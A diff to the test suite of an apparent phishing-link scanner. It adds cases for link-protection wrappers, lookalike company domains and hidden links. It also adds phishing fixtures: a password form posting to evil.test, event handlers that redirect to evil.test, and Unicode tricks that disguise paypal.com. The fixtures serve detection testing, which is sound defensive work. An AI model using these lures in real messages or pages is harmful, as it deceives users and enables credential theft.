@@ -7,6 +7,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 import uriinspector
+from tests.documents.mails import simple
 from uriinspector.analysis.phrase import joined
 from uriinspector.documents.leaf import Leaf
 
@@ -55,6 +56,12 @@ def said(page: str, base: str | None = None) -> dict[str, tuple[str, str]]:
         ("mailto:a@example.com", "help@example.com", None),
         ("/login", "www.paypal.com", "high"),
         ("javascript:void(0)", "www.paypal.com", None),
+        ("https://news.test/", "How PayPal.com was built in a garage", "medium"),
+        ("https://example.com/", "example.com, once www.oldname.org", "medium"),
+        ("https://example.com/", "Ph.D. theses, 3.5 million, $1.299.00, 10.12.2024", None),
+        ("https://x.com/a", "twitter.com/a", None),
+        ("https://youtu.be/a", "youtube.com/a", None),
+        ("https://outlook.office365.com/", "outlook.com", None),
     ],
 )
 def test_a_text_that_names_another_site(href: str, text: str, severity: str | None) -> None:
@@ -65,6 +72,45 @@ def test_a_text_that_names_another_site(href: str, text: str, severity: str | No
 def test_behind_a_safe_link_the_last_host_counts() -> None:
     href = "https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.example.com%2Fa&data=1"
     assert "text-href-mismatch" not in said(f"<a href='{href}'>www.example.com</a>")
+
+
+@pytest.mark.parametrize(
+    "href",
+    [
+        "https://eur01.safelinks.protection.outlook.com/?url={}&amp;data=05%7C02%7Cme%40acme.test",
+        "https://nam12.safelinks.protection.outlook.com/ap/w-59584e83/?url={}&amp;data=1",
+        "https://urldefense.proofpoint.com/v1/url?u={}&amp;k=abc",
+        "https://urldefense.proofpoint.com/v2/url?u=https-3A__www.acme.com_a&amp;d=DwMFaQ",
+        "https://urldefense.com/v3/__https://www.acme.com/a__;!!abc!xyz$",
+        "https://linkprotect.cudasvc.com/url?a={}&amp;c=E,1,x",
+        "https://protect-us.mimecast.com/s/abc?domain=acme.com",
+        "https://secure-web.cisco.com/1abc/{}",
+        "https://us-west-2.protection.sophos.com/?d=acme.com&amp;u=aHR0cHM6Ly93d3cuYWNtZS5jb20vYQ==",
+        "https://protect.checkpoint.com/v2/___https://www.acme.com/a___.YXA",
+        "https://u123.ct.sendgrid.net/ls/click?upn=abc",
+        "https://acme.us5.list-manage.com/track/click?u=1",
+        "https://click.news.acme.com/?qs=abc",
+        "https://acme.sharepoint.com/sites/a",
+        "https://acme.zendesk.com/hc",
+        "https://acme.de/",
+    ],
+)
+def test_a_company_behind_services_of_its_own_gets_no_alarm(href: str) -> None:
+    link = href.format("https%3A%2F%2Fwww.acme.com%2Fa")
+    shown = "Open it" if "acme." in href.split("/")[2] else "https://www.acme.com/a"
+    header = "Delivered-To: me@acme.com\nContent-Type: text/html"
+    octets = simple(header, f"<p><a href='{link}'>{shown}</a>").replace(b"a@a.test", b"a@acme.com")
+    (found,) = uriinspector.scan(octets).links
+    assert found.verdict.severity in {None, "info", "low"}, found.findings
+
+
+@pytest.mark.parametrize("host", ["acme.co", "acme.web.app", "acme.evil.test", "acme-login.com"])
+def test_who_imitates_the_company_is_told(host: str) -> None:
+    octets = simple(
+        "Delivered-To: me@acme.com\nContent-Type: text/html", f"<a href='https://{host}/'>"
+    )
+    (found,) = uriinspector.scan(octets).links
+    assert found.verdict.severity == "high"
 
 
 def test_the_service_on_the_way_is_told_too() -> None:
@@ -175,8 +221,29 @@ def test_the_verdict_names_what_is_shown() -> None:
             "medium",
         ),
         ("<a href='http://a.test/' style='font-size:09px'>x</a>", PAGE, "hidden-link", None),
+        *((f"<a href='http://a.test/' style='{style}'>x</a>", PAGE, "hidden-link", "medium")
+          for style in ("display:/**/none", "dis\\70lay:none", "position:absolute;left:-9999px",
+                        "clip:rect(0,0,0,0)", "text-indent:-9999px", "opacity:0.0")),
+        *((f"<a href='http://a.test/'{rest}</a>", PAGE, "hidden-link", None)
+          for rest in (">&nbsp;<img src=x>", ">&nbsp;", "><img><i hidden>x</i>", ">",
+                       " style='font-size:0'><img src=x>", " style='opacity:.5'>x")),
+        ("<form action=//evil.test><input type=&#112;assword>", PAGE, "form-action", "high"),
+        *((f"<a href='https://bank.com/' onclick='{code}'>", PAGE, "event-handler", "low")
+          for code in ("tell(\"https://stats.test/\")", "ga({page_location: \"http://a.test/\"})")),
+        ("<a href='https://bank.com/' onclick='var u=\"http://evil.test/\"; location = u'>", PAGE,
+         "event-handler", "high"),
+        ("<form action='/x' onsubmit='this.action=\"http://evil.test/\"'>", PAGE,
+         "event-handler", "high"),
+        ("<body onload='location=\"http://evil.test/\"'>", PAGE, "event-handler", "high"),
+        ("<body onload='location=\"/x\"'>", PAGE, "event-handler", "info"),
+        ("<script>location.href = 'http://evil.test/'</script>", PAGE, "auto-redirect", "low"),
+        ("<script>y('http://a.test/')</script>", PAGE, "auto-redirect", None),
+        ("<a href=//evil.test>\u202emoc.lapyap.www\u202c</a>", PAGE, "html-obfuscation", "high"),
+        ("<a href='http://evil.test/'>paypal\u3002com</a>", PAGE, "html-obfuscation", "high"),
+        ("<a href='http://evil.test/'>www.pay\xadpal.com</a>", PAGE, "html-obfuscation", "high"),
+        ("<a href='http://evil.test/'>www.pay\xadpal.com</a>", PAGE, "text-href-mismatch", None),
     ],
-)
+)  # fmt: skip
 def test_what_a_page_does_to_its_links(
     page: str, base: str | None, code: str, severity: str | None
 ) -> None:
